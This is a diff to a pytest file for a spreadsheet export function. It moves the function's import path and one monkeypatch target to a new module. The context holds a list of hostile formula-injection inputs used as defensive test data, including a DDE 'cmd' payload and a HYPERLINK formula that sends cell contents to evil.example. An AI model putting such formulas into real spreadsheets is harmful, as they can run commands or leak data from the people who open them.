@@ -9,7 +9,7 @@ from decimal import Decimal
 import openpyxl
 import pytest
 
-from guanbao.web.exports import table_write
+from guanbao.engine.reports.tables import table_write
 
 HOSTILE = [
     "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-1+1", "@SUM(A1)",
@@ -80,7 +80,7 @@ def test_the_same_rows_are_the_same_bytes(tmp_path):
 
 
 def test_a_sheet_that_is_full_goes_on_in_another(tmp_path, monkeypatch):
-    monkeypatch.setattr("guanbao.web.exports._SHEET", 2)
+    monkeypatch.setattr("guanbao.engine.reports.tables._SHEET", 2)
     assert table_write(tmp_path / "a.xlsx", "xlsx", "t", ["a"], ([n] for n in range(5))) == 5
     book = openpyxl.load_workbook(tmp_path / "a.xlsx")
     assert [(sheet.title, sheet.max_row) for sheet in book] == [("t", 3), ("t 2", 3), ("t 3", 2)]
